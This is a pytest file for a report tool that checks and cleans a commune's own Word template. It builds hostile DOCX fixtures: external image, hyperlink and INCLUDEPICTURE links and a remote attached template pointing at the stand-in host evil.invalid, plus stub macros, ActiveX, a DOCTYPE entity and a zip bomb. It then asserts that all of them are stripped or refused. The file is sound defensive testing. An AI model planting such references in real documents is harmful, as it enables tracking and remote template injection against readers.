"""A commune's own DOCX template: checked when chosen, cleaned when used; nothing leaves the computer."""

import io
import os
import re
import zipfile

import docx
import pytest

from openreport.render.docx.template import TemplateError, check_template, clean_template
from openreport.render.docx.writer import export_docx

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = "evil.invalid"


def plain_template(path):
    own = docx.Document()
    own.sections[0].header.paragraphs[0].text = "ترويسة الجماعة الخاصة"
    own.save(path)
    return path


def rewrite(path, change):
    """Apply ``change(parts)`` to the parts of the DOCX at ``path`` (a dict name → bytes)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def add_relationship(parts, rels, rel_id, kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'
    parts[rels] = parts[rels].replace(b"</Relationships>", entry.encode() + b"</Relationships>")


def add_override(parts, name, content_type):
    entry = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(b"</Types>", entry.encode() + b"</Types>")


def header_name(parts):
    return next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))


def hostile(parts):
    """Links to the outside, macros, comments, custom XML and properties, as Word writes them."""
    header = header_name(parts)
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    parts.setdefault(
        header_rels,
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    add_relationship(parts, header_rels, "rIdX1", "image", f"http://{OUTSIDE}/pixel.png")
    add_relationship(parts, header_rels, "rIdX2", "hyperlink", f"http://{OUTSIDE}/site")
    linked = (
        f'<w:p {W} {R}><w:hyperlink r:id="rIdX2"><w:r><w:t>الموقع</w:t></w:r></w:hyperlink>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
        '<v:imagedata r:id="rIdX1"/></v:shape></w:pict></w:r>'
        f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://{OUTSIDE}/x.png&quot; \\d">'
        "<w:r><w:t>صورة</w:t></w:r></w:fldSimple></w:p>"
    )
    parts[header] = parts[header].replace(b"</w:hdr>", linked.encode() + b"</w:hdr>")
    attach_template_and_macros(parts)


def attach_template_and_macros(parts):
    """An attached template on a server, a macro project, an ActiveX control, comments."""
    settings = parts["word/settings.xml"]
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1
    )
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    add_relationship(
        parts,
        "word/_rels/settings.xml.rels",
        "rIdT",
        "attachedTemplate",
        f"http://{OUTSIDE}/normal.dotm",
    )
    parts["word/vbaProject.bin"] = b"macro bytes"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    add_relationship(
        parts,
        "word/_rels/document.xml.rels",
        "rIdV",
        "../2006/relationships/vbaProject",
        "vbaProject.bin",
        external=False,
    )
    parts["word/comments.xml"] = f"<w:comments {W}/>".encode()
    add_relationship(
        parts, "word/_rels/document.xml.rels", "rIdC", "comments", "comments.xml", external=False
    )
    add_override(
        parts,
        "word/comments.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
    )
    parts["word/activeX/activeX1.xml"] = b"<ax:ocx xmlns:ax='urn:x'>secret</ax:ocx>"
    add_relationship(
        parts,
        "word/_rels/document.xml.rels",
        "rIdA",
        "control",
        "activeX/activeX1.xml",
        external=False,
    )
    add_override(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    parts["customXml/item1.xml"] = b"<data>secret</data>"
    parts["docProps/custom.xml"] = b"<Properties>secret</Properties>"


def everything(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_nothing_in_an_export_points_outside_the_computer(tmp_path, demo, profile):
    own = rewrite(plain_template(tmp_path / "own.docx"), hostile)
    assert OUTSIDE.encode() in b"".join(everything(own).values())
    check_template(own)  # usable, once cleaned
    profile.template_path = str(own)
    out = export_docx(demo, profile, tmp_path / "out.docx")
    parts = everything(out)
    assert not [n for n in parts if n.endswith(".rels") and b'TargetMode="External"' in parts[n]]
    assert OUTSIDE.encode() not in b"".join(parts.values())
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"INCLUDEPICTURE" not in b"".join(parts.values())
    for name in (
        "word/vbaProject.bin",
        "word/comments.xml",
        "customXml/item1.xml",
        "docProps/custom.xml",
        "word/activeX/activeX1.xml",
    ):
        assert name not in parts
    assert b"secret" not in b"".join(parts.values())
    header = docx.Document(str(out)).sections[0].header
    assert "ترويسة الجماعة الخاصة" in header.paragraphs[0].text
    assert "الموقع" in "".join(p.text for p in header.paragraphs)  # the link's words stay


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (
            lambda parts: parts.__setitem__(
                "word/styles.xml",
                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>'
                + parts["word/styles.xml"].split(b"?>", 1)[1],
            ),
            "DOCTYPE",
        ),
        (
            lambda parts: parts.__setitem__(
                "word/document.xml",
                re.sub(rb"<w:sectPr.*</w:sectPr>", b"", parts["word/document.xml"], flags=re.S),
            ),
            "قسم",
        ),
        (lambda parts: parts.pop("word/document.xml"), "ليس مستند Word"),
        (lambda parts: parts.__setitem__("word/styles.xml", b"<w:styles"), "غير مقروء"),
    ],
)
def test_an_unusable_template_is_refused_with_its_reason(tmp_path, change, reason):
    path = rewrite(plain_template(tmp_path / "own.docx"), change)
    with pytest.raises(TemplateError, match=reason) as error:
        check_template(path)
    assert "لا يمكن استعمال القالب own.docx" in str(error.value)


def test_a_doctype_in_another_encoding_is_refused(tmp_path):
    def utf16(parts):
        text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'
        parts["word/extra.xml"] = text.encode("utf-16")

    with pytest.raises(TemplateError, match="DOCTYPE"):
        check_template(rewrite(plain_template(tmp_path / "own.docx"), utf16))


def test_not_a_file_or_not_a_document(tmp_path):
    fifo = tmp_path / "pipe.docx"
    os.mkfifo(fifo)
    with pytest.raises(TemplateError, match="ليس ملفا عاديا"):
        check_template(fifo)
    text = tmp_path / "notes.docx"
    text.write_text("نص", encoding="utf-8")
    with pytest.raises(TemplateError, match="ليس مستند Word سليما"):
        check_template(text)
    with pytest.raises(TemplateError):
        check_template(tmp_path / "missing.docx")


def test_a_zip_bomb_is_refused(tmp_path, monkeypatch):
    path = plain_template(tmp_path / "own.docx")
    rewrite(path, lambda parts: parts.__setitem__("word/media/big.bin", b"\0" * 3_000_000))
    monkeypatch.setattr("openreport.render.docx.template.MAX_UNPACKED_BYTES", 2_000_000)
    with pytest.raises(TemplateError, match="فك الضغط"):
        check_template(path)


def as_word_template(parts):
    types = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml"
    )
    parts["[Content_Types].xml"] = types


def test_a_word_template_file_is_used(tmp_path, demo, profile):
    own = rewrite(plain_template(tmp_path / "own.dotx"), as_word_template)
    check_template(own)
    profile.template_path = str(own)
    out = docx.Document(str(export_docx(demo, profile, tmp_path / "out.docx")))
    assert "ترويسة الجماعة الخاصة" in out.sections[0].header.paragraphs[0].text


def test_a_clean_template_keeps_what_it_has(tmp_path):
    path = plain_template(tmp_path / "own.docx")
    document = docx.Document(io.BytesIO(clean_template(path)))
    assert document.sections[0].header.paragraphs[0].text == "ترويسة الجماعة الخاصة"
